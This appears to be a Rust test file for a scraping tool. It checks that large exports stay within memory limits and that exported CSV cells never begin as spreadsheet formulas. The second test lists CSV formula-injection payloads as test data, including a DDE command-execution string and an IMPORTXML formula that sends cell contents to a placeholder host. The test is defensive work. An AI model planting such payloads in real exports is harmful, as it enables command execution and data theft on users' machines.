//! Exports of more than fits in memory, and of text that is made to harm.

use crate::common::server::{answer, serve};
use crate::common::serving::{Served, address};
use crate::common::world::clean;
use crate::common::{Call, World};
use parquet::file::reader::{FileReader, SerializedFileReader};
use rustix::process::{Pid, Signal};
use sqlx::sqlite::{SqliteConnectOptions, SqliteConnection};
use sqlx::{ConnectOptions, Connection};
use std::fs::File;
use std::path::Path;

/// Records made of one.
const ROWS: u64 = 100_000;
/// The most memory that a process ever had, in bytes.
fn peak(pid: Pid) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{}/status", pid.as_raw_nonzero())).unwrap();
    let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:")).unwrap();
    line.trim().trim_end_matches(" kB").parse::<u64>().unwrap() * 1024
}

/// Copies the first record of the run until there are so many, each of about 700 bytes.
async fn multiply(data: &Path) {
    let options = SqliteConnectOptions::new().filename(data.join("harvestman.db"));
    let mut connection: SqliteConnection = options.connect().await.unwrap();
    let copied = sqlx::query(
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?1),
              one AS (SELECT run_id, seq, version, data FROM records WHERE rejected IS NULL ORDER BY seq LIMIT 1)
         INSERT INTO records (run_id, seq, ord, version, data)
         SELECT one.run_id, one.seq, 1000 + n.i, one.version,
                json_set(one.data, '$.padding', printf('%0600d', n.i)) FROM n, one",
    );
    copied.bind(i64::try_from(ROWS).unwrap()).execute(&mut connection).await.unwrap();
    connection.close().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_large_export_takes_little_memory() {
    let world = World::of(clean(5)).await;
    let served = Served::of(&world).await;
    let mut job = world.job();
    job.extract.get_or_insert_default().fields.insert("padding".into(), shared::job::Field::short("h1"));
    let document = world.write("job.json", &job);
    served.call(["runs", "start", "--watch", "--job", document.to_str().unwrap()]).end().await.done();
    served.alive.signal(Signal::TERM);
    served.alive.end().await.done();
    multiply(&world.data()).await;

    let served = Served::of(&world).await;
    // A first answer, so that what any request needs is there.
    served.rows(&["records", "list", "1", "--limit", "1000"]).await;
    // What an export may add to the most memory that was ever in use: the same for four times as many records.
    for (name, more) in [("out.jsonl", 24 << 20), ("out.csv", 24 << 20), ("out.parquet", 72 << 20)] {
        let before = peak(served.alive.pid());
        let out = world.path(name);
        served.call(["export", "1", "--out", out.to_str().unwrap()]).end().await.done();
        let after = peak(served.alive.pid());
        assert!(after - before < more, "{name}: {before} -> {after}");
    }
    let lines = |name| std::fs::read_to_string(world.path(name)).unwrap().lines().count() as u64;
    assert_eq!((lines("out.jsonl"), lines("out.csv")), (ROWS + 5, ROWS + 6));
    let parquet = SerializedFileReader::new(File::open(world.path("out.parquet")).unwrap()).unwrap();
    assert_eq!(parquet.metadata().file_metadata().num_rows().unsigned_abs(), ROWS + 5);
    served.alive.signal(Signal::TERM);
    served.alive.end().await.done();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_cell_of_a_csv_file_is_a_formula() {
    const TEXTS: [&str; 20] = [
        "=1+1",
        "+1",
        "-1",
        "@SUM(1)",
        "'=1",
        "\"=1\"",
        "＝1",
        "＋1",
        "－1",
        "＠1",
        "=HYPERLINK(\"http://x\",\"y\")",
        "=cmd|'/c calc'!A0",
        ";=1",
        ",=1",
        "a;=1",
        "a;+1;@x",
        "%0A=1",
        "=IMPORTXML(CONCAT(\"http://x\",A1))",
        "a \"quoted\", cell",
        "\u{feff}=1",
    ];
    let items: String =
        TEXTS.iter().map(|text| format!("<li><b>{}</b></li>", text.replace('"', "&quot;"))).collect();
    let large = format!("<li><b>={}</b></li>", "x".repeat(1 << 20));
    let page = format!("<title>=1</title><ul>{items}{large}</ul>");
    let site = serve("127.0.0.2", move |target| match target {
        query if query.starts_with("/?") => {
            answer("200 OK", "Content-Type: text/html; charset=utf-8\r\n", &page)
        }
        _ => answer("404 Not Found", "", ""),
    })
    .await;
    let folder = tempfile::tempdir().unwrap();
    let alive = Call::of(["serve", "--listen", "127.0.0.1:0", "--allow", &site.to_string()])
        .with(["--data".as_ref(), folder.path().join("data").as_os_str()])
        .start();
    let url = format!("http://{}", address(&alive).await.0);
    let served = Served { alive, url };
    let seed = format!("http://{site}/?a;=1");
    let flags = ["--field", "=bad=b", "--watch"];
    served.call_as("", ["runs", "start", &seed]).with(flags).end().await.says(2, &[]);
    let start = ["runs", "start", &seed, "--each", "li", "--field", "text=b", "--watch"];
    served.call_as("", start).end().await.done();
    let out = folder.path().join("out.csv");
    served.call_as("", ["export", "1", "--out", out.to_str().unwrap()]).end().await.done();
    let bytes = std::fs::read(out).unwrap();
    assert!(!bytes.starts_with("\u{feff}".as_bytes()));
    for delimiter in [b',', b';', b'\t'] {
        let mut reader = csv::ReaderBuilder::new();
        let reader = reader.delimiter(delimiter).flexible(true).has_headers(false);
        let mut rows = 0;
        for row in reader.from_reader(&bytes[..]).records() {
            rows += 1;
            for cell in &row.unwrap() {
                let first = cell.trim_start_matches([' ', '\u{feff}']).chars().next();
                let runs = first.is_some_and(|c| "=+-@\t\r\n＝＋－＠".contains(c));
                assert!(
                    !runs,
                    "{:?} with {:?}",
                    cell.chars().take(40).collect::<String>(),
                    char::from(delimiter)
                );
            }
        }
        assert!(rows > TEXTS.len());
    }
}
